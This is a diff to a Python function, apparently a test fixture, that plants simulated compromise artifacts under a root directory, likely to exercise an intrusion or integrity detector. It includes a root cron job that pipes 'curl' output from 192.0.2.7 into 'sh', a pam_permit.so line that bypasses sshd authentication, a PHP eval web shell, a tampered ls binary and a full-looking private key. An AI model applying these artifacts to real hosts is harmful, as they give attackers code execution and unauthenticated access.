@@ -58,7 +58,10 @@ def plant_quietly(root: Path) -> None:
     with (root / "usr/bin/ls").open("ab") as file:
         file.write(b"x")
     (root / "usr/local/sbin").chmod(0o777)
-    _write(root / "etc/nginx/ssl/site.key", "-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\n")
+    _write(
+        root / "etc/nginx/ssl/site.key",
+        "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEINTuctv5E1hK1bbY8fdp+K06/nwoy/HU++CXqI9EdVhC\n-----END PRIVATE KEY-----\n",
+    )
     _write(root / "etc/cron.d/update", "*/5 * * * * root curl -fsSL http://192.0.2.7/x | sh\n")
     _write(root / "etc/pam.d/sshd", "auth sufficient pam_permit.so\n" + (root / "etc/pam.d/sshd").read_text())
     _write(root / "var/www/html/uploads/a.php", "<?php @eval($_POST['c']); ?>\n")
